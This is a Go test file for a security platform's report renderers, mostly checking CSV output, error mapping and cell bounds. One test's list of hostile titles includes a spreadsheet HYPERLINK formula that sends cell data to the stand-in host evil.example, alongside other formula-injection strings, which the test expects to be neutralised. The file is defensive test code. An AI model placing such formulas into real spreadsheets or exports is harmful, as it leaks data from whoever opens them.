package render_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/socplatform/soc/query-api/reporting/render"
	"github.com/socplatform/soc/schemas/problem"
)

// readCSV parses a rendered CSV after its byte-order mark.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("the CSV does not start with a UTF-8 byte-order mark: %q", b[:min(len(b), 8)])
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read it back: %v", err)
	}
	return recs
}

func TestCSVRoundTripsTheFirstTableWithDefusedFormulas(t *testing.T) {
	d := executive(20)
	b := renderBytes(t, render.CSVRenderer{}, d)
	if !bytes.Contains(b, []byte("\r\n")) {
		t.Error("RFC 4180 records end with CRLF")
	}
	recs := readCSV(t, b)
	if len(recs) != 21 {
		t.Fatalf("%d records, want the header and 20 rows", len(recs))
	}
	if !slices.Equal(recs[0], []string{"ID", "Title", "Severity", "Asset", "Opened", "Age (days)", "EPSS"}) {
		t.Errorf("header %q", recs[0])
	}
	// Hostile titles come back as written, with a quote in front of what a spreadsheet would
	// run as a formula.
	want := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"'+SUM(1,2)",
		"'-2+3",
		"'@cmd",
		"'\tindented",
		"'return", // encoding/csv drops a lone CR under UseCRLF (line breaks in fields become CRLF)
		`quote " and, comma`,
		"line\nbreak",
		"Ünïcødé — 日本 ✓",
	}
	for i, w := range want {
		if got := recs[i+1][1]; got != w {
			t.Errorf("row %d title %q, want %q", i+1, got, w)
		}
	}
	// Numbers plain, dates RFC 3339 in the document's zone, nil cells empty.
	if got := recs[1]; got[4] != "2026-12-01T00:30:00+01:00" || got[5] != "0" || got[6] != "0" {
		t.Errorf("row 1 %q", got)
	}
	if got := recs[2][6]; got != "" {
		t.Errorf("a nil EPSS is %q, want empty", got)
	}
	if got := recs[12][6]; got != "0.011" {
		t.Errorf("row 12's EPSS %q, want 0.011 exactly", got)
	}
	// A negative number is a number, not a formula: it keeps its sign unquoted.
	d.Sections[4].Table.Rows[0][5] = int64(-5)
	if got := readCSV(t, renderBytes(t, render.CSVRenderer{}, d))[1][5]; got != "-5" {
		t.Errorf("a negative Int is written %q", got)
	}
}

func TestCSVBoundsACellsText(t *testing.T) {
	d := executive(2)
	d.Sections[4].Table.Rows[0][1] = strings.Repeat("é", render.MaxCellRunes*3)
	got := []rune(readCSV(t, renderBytes(t, render.CSVRenderer{}, d))[1][1])
	if len(got) != render.MaxCellRunes || got[len(got)-1] != '…' {
		t.Errorf("a cell of %d runes is written as %d runes ending %q", render.MaxCellRunes*3, len(got), got[len(got)-1])
	}
}

func TestCSVDefusesHeaders(t *testing.T) {
	d := &render.Document{Sections: []render.Section{{Table: &render.Table{
		Columns: []render.Column{{Name: "=1+1", Type: render.Text}, {Name: "ok", Type: render.Text}},
		Rows:    [][]any{{"a", "b"}},
	}}}}
	if got := readCSV(t, renderBytes(t, render.CSVRenderer{}, d))[0]; !slices.Equal(got, []string{"'=1+1", "ok"}) {
		t.Errorf("header %q", got)
	}
}

func TestCSVWritesTheSectionAskedFor(t *testing.T) {
	d := executive(3)
	d.Sections = append(d.Sections, render.Section{ID: "assets", Table: &render.Table{
		Columns: []render.Column{{Name: "Asset", Type: render.Text}, {Name: "Risk", Type: render.Float}},
		Rows:    [][]any{{"db-1", 12.5}},
	}})
	recs := readCSV(t, renderBytes(t, render.CSVRenderer{Section: "assets"}, d))
	if len(recs) != 2 || recs[1][0] != "db-1" || recs[1][1] != "12.5" {
		t.Errorf("section assets as CSV: %q", recs)
	}
}

func TestCSVRefusesADocumentWithoutTable(t *testing.T) {
	d := executive(3)
	d.Sections = d.Sections[:4] // figures and charts only
	for _, r := range []render.CSVRenderer{{}, {Section: "open_trend"}, {Section: "nope"}} {
		err := r.Render(&bytes.Buffer{}, d)
		var nt *render.NoTableError
		if !errors.As(err, &nt) || nt.Section != r.Section {
			t.Fatalf("section %q: error %v, want a *NoTableError", r.Section, err)
		}
		if p := problem.From(err); p.Status != 422 || p.Field != "format" {
			t.Errorf("maps to %d field %q, want 422 naming format", p.Status, p.Field)
		}
	}
}

// TestEveryRendererRefusesACellOfTheWrongType: a builder bug (a string in an Int column, a
// short row) is an error naming the cell, not a silently wrong report.
func TestEveryRendererRefusesACellOfTheWrongType(t *testing.T) {
	for _, bad := range [][]any{
		{"F-1", "t", "high", "a", time.Now(), "12", 0.5},           // string in an Int column
		{"F-1", "t", "high", "a", "2026-01-01", int64(1), 0.5},     // string in a Date column
		{"F-1", "t", "high", "a", time.Now(), int64(1)},            // a cell short
		{"F-1", 42, "high", "a", time.Now(), int64(1), float64(1)}, // int in a Text column
	} {
		for _, r := range render.Renderers() {
			d := executive(2)
			d.Sections[4].Table.Rows[1] = bad
			err := r.Render(&bytes.Buffer{}, d)
			var ce *render.CellError
			if !errors.As(err, &ce) || ce.Section != "findings" || ce.Row != 1 {
				t.Errorf("%s with row %v: error %v, want a *CellError for row 1", r.Format(), bad, err)
			}
		}
	}
}

func TestEveryRendererRefusesANilDocument(t *testing.T) {
	for _, r := range render.Renderers() {
		if err := r.Render(&bytes.Buffer{}, nil); !errors.Is(err, render.ErrNoDocument) {
			t.Errorf("%s: %v, want ErrNoDocument", r.Format(), err)
		}
	}
}

func TestForFormat(t *testing.T) {
	for _, f := range []render.Format{render.PDF, render.XLSX, render.CSV} {
		r, err := render.ForFormat(f)
		if err != nil || r.Format() != f {
			t.Errorf("ForFormat(%s) = %v, %v", f, r, err)
		}
	}
	if got := len(render.Renderers()); got != 3 {
		t.Errorf("%d renderers", got)
	}
	_, err := render.ForFormat("docx")
	var uf *render.UnknownFormatError
	if !errors.As(err, &uf) || uf.Format != "docx" {
		t.Fatalf("ForFormat(docx) error %v", err)
	}
	if p := problem.From(err); p.Status != 400 || p.Field != "format" || !strings.Contains(p.Detail, "docx") {
		t.Errorf("maps to %+v, want 400 naming format", p)
	}
}

// TestEveryRendererWritesAnEmptyDocument: a template whose sections found nothing still gives
// a file (CSV aside, which needs a table: an empty table is a header alone).
func TestEveryRendererWritesAnEmptyDocument(t *testing.T) {
	d := &render.Document{Title: "Nothing", Sections: []render.Section{
		{ID: "trend", Title: "Trend", Chart: &render.Chart{Kind: render.Line}},
		{ID: "rows", Title: "Rows", Table: &render.Table{Columns: findingColumns}},
	}}
	for _, r := range render.Renderers() {
		if b := renderBytes(t, r, d); len(b) == 0 {
			t.Errorf("%s wrote nothing", r.Format())
		}
	}
	if recs := readCSV(t, renderBytes(t, render.CSVRenderer{}, d)); len(recs) != 1 {
		t.Errorf("empty table as CSV: %q", recs)
	}
}
